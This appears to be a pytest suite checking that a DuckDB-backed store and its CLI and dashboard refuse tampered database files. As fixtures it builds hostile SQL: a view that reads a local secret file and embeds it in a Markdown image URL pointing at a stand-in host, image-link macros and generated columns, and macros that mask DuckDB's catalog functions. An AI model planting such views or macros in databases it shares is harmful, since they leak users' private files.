"""A database file copied from elsewhere is data: it opens only as plain tables, and never reads local files.

Issue 14, security 1. Every Store connection runs with DuckDB's external access off, extension
loading off and its configuration locked; and db/trust.py refuses, with one line, a file that is not
DuckDB (SQLite included: no extension is fetched) or that holds a view, a macro, another schema, a
generated column or a column default we never write. The refusal reaches the CLI (stderr, non-zero
exit) and the dashboard (st.error) as it is.
"""
from __future__ import annotations

import sqlite3
import subprocess
from pathlib import Path

import duckdb
import pytest
from streamlit.testing.v1 import AppTest

from db.store import Store, StoreError
from db.trust import UntrustedDatabase
from tests.displayed import displayed
from tests.reliability.support import PYTHON, REPO, child_env

SECRET = "the-contents-of-a-private-file"
OUR_TABLES = ("runs", "problems", "results", "run_metrics", "reference_latents", "schema_migrations")


def _ours(tmp_path: Path, name: str = "ours.duckdb") -> Path:
    path = tmp_path / name
    Store(path).close()
    return path


def _tampered(tmp_path: Path, *statements: str, name: str = "tampered.duckdb") -> Path:
    """Our schema, then what somebody else's copy of the file added (written with DuckDB itself)."""
    path = _ours(tmp_path, name)
    conn = duckdb.connect(str(path))
    for statement in statements:
        conn.execute(statement)
    conn.close()
    return path


def _exfiltrating_file(tmp_path: Path) -> Path:
    """The reported attack: `problems` a view whose question is a Markdown image carrying a local file."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    return _tampered(tmp_path, "DROP TABLE problems", f"""
        CREATE VIEW problems AS SELECT 1 AS run_id, 'p' AS problem_id, 0 AS ord,
            '![x](http://127.0.0.1:9/?d=' || url_encode((SELECT content FROM read_text('{secret}'))) || ')' AS question,
            '1' AS gold, 1.0 AS gold_value, 1 AS difficulty, '' AS solution, 'full' AS phase""",
                     name="hostile.duckdb")


def _refusal(path: Path) -> str:
    with pytest.raises(UntrustedDatabase) as refused:
        Store(path)
    message = str(refused.value)
    assert "\n" not in message and str(path) in message, message
    assert isinstance(refused.value, StoreError)  # every caller that explains a StoreError explains this one
    return message


def test_a_view_that_reads_a_local_file_is_refused_before_anything_is_read(tmp_path):
    path = _exfiltrating_file(tmp_path)
    message = _refusal(path)
    assert "view main.problems" in message and SECRET not in message
    with pytest.raises(UntrustedDatabase):
        Store(path, read_only=True)


@pytest.mark.parametrize("table", OUR_TABLES)
def test_any_of_our_tables_as_a_view_is_refused(tmp_path, table):
    """The view even answers like the table (it selects from a renamed copy): it is still not ours."""
    path = _tampered(tmp_path, f"ALTER TABLE {table} RENAME TO {table}_data",
                     f"CREATE VIEW {table} AS SELECT * FROM {table}_data")
    assert f"view main.{table}" in _refusal(path)


@pytest.mark.parametrize("statement, named", [
    ("CREATE VIEW extra AS SELECT 42 AS answer", "view main.extra"),
    ("CREATE MACRO question(x) AS '![x](http://127.0.0.1:9/)' || x", "macro main.question"),
    ("CREATE MACRO everything() AS TABLE SELECT * FROM problems", "macro main.everything"),
    ("CREATE SCHEMA elsewhere", "schema elsewhere"),
    ("CREATE TABLE shown (q VARCHAR, md VARCHAR GENERATED ALWAYS AS ('![x](http://127.0.0.1:9/)' || q))",
     "generated column shown.md"),
    ("ALTER TABLE runs ALTER COLUMN notes SET DEFAULT current_setting('temp_directory')", "column runs.notes"),
])
def test_code_besides_the_tables_is_refused(tmp_path, statement, named):
    assert named in _refusal(_tampered(tmp_path, statement))


def test_a_file_cannot_hide_its_code_from_the_check(tmp_path):
    """Its own duckdb_views(), duckdb_functions() and current_database() answer nothing: the check calls DuckDB's."""
    path = _tampered(tmp_path, "CREATE VIEW hidden AS SELECT 42 AS answer",
                     "CREATE MACRO duckdb_views() AS TABLE SELECT 'x' AS database_name, 'main' AS schema_name, "
                     "'v' AS view_name, false AS internal WHERE false",
                     "CREATE MACRO duckdb_functions() AS TABLE SELECT 'x' AS database_name, 'main' AS schema_name, "
                     "'f' AS function_name, 'macro' AS function_type, false AS internal WHERE false",
                     "CREATE MACRO current_database() AS 'elsewhere'")
    assert "view main.hidden" in _refusal(path)


def test_a_file_of_plain_data_still_opens(tmp_path):
    """Extra tables, sequences and types are data: refused files are the ones holding code, not all others."""
    path = _tampered(tmp_path, "CREATE TABLE my_notes (line VARCHAR)", "INSERT INTO my_notes VALUES ('hi')",
                     "CREATE SEQUENCE my_ids", "CREATE TYPE mood AS ENUM ('good', 'bad')")
    store = Store(path)
    try:
        assert store.query("SELECT line FROM my_notes") == [("hi",)]
    finally:
        store.close()


@pytest.mark.parametrize("kind", ["sqlite", "empty", "text"])
def test_a_file_that_is_not_duckdb_is_refused_without_fetching_an_extension(tmp_path, kind):
    path = tmp_path / "other.db"
    if kind == "sqlite":
        conn = sqlite3.connect(path)
        conn.execute("CREATE TABLE runs (id INTEGER)")
        conn.commit()
        conn.close()
    else:
        path.write_bytes(b"" if kind == "empty" else b"question,gold\n1+1,2\n" * 20)
    before = path.read_bytes()
    home = tmp_path / "home"  # DuckDB keeps downloaded extensions under ~/.duckdb
    home.mkdir()
    done = subprocess.run([PYTHON, "-m", "runner", "status", "--db", str(path)], cwd=REPO, capture_output=True,
                          text=True, timeout=120, env=child_env(HOME=str(home)))
    lines = done.stderr.strip().splitlines()
    assert done.returncode != 0 and len(lines) == 1, done.stderr
    expected = "is a SQLite database, not a DuckDB file" if kind == "sqlite" else "is not a DuckDB database file"
    assert expected in lines[0] and "extension" not in lines[0], lines[0]
    assert path.read_bytes() == before and not any(home.iterdir())  # untouched, nothing downloaded


def test_the_cli_refuses_a_tampered_file_with_one_line(tmp_path):
    path = _exfiltrating_file(tmp_path)
    for command in (["status", "--json"], ["stats"], ["export", "--format", "csv", "--out", str(tmp_path / "out")]):
        done = subprocess.run([PYTHON, "-m", "runner", *command, "--db", str(path)], cwd=REPO, capture_output=True,
                              text=True, timeout=120, env=child_env())
        assert done.returncode != 0, (command, done.stdout)
        assert done.stderr.strip().count("\n") == 0 and "view main.problems" in done.stderr, (command, done.stderr)
        assert SECRET not in done.stdout + done.stderr


def test_the_dashboard_shows_the_refusal_and_reads_nothing(tmp_path, monkeypatch):
    path = _exfiltrating_file(tmp_path)
    monkeypatch.setenv("THOUGHTSWEEP_DB", str(path))
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120).run()
    assert not at.exception, [e.message for e in at.exception]
    errors = [displayed(e.value) for e in at.error]
    assert any("view main.problems" in e for e in errors), errors
    assert SECRET not in "\n".join(errors)


def test_the_sidebar_refuses_to_switch_to_a_tampered_file(tmp_path, monkeypatch):
    ours = _ours(tmp_path)
    monkeypatch.setenv("THOUGHTSWEEP_DB", str(ours))
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120).run()
    hostile = _exfiltrating_file(tmp_path)
    at.sidebar.text_input(key="db_new_path").input(str(hostile)).run()
    next(b for b in at.sidebar.button if b.label == "Open").click().run()
    assert not at.exception, [e.message for e in at.exception]
    errors = [displayed(e.value) for e in at.sidebar.error]
    assert any("view main.problems" in e for e in errors), errors
    held = [displayed(c.value) for c in at.sidebar.caption if ".duckdb" in c.value]
    assert held == [str(ours.resolve())], held  # still the file it held


def test_the_connection_cannot_be_talked_out_of_it(tmp_path):
    store = Store(_ours(tmp_path))
    try:
        with pytest.raises(StoreError):  # lock_configuration: a query cannot turn external access back on
            store.query("SET enable_external_access = true")
        assert store.query("SELECT current_setting('enable_external_access')")[0][0] is False
        (tmp_path / "secret.txt").write_text(SECRET)
        with pytest.raises(StoreError):
            store.query("SELECT content FROM read_text(?)", [str(tmp_path / "secret.txt")])
    finally:
        store.close()
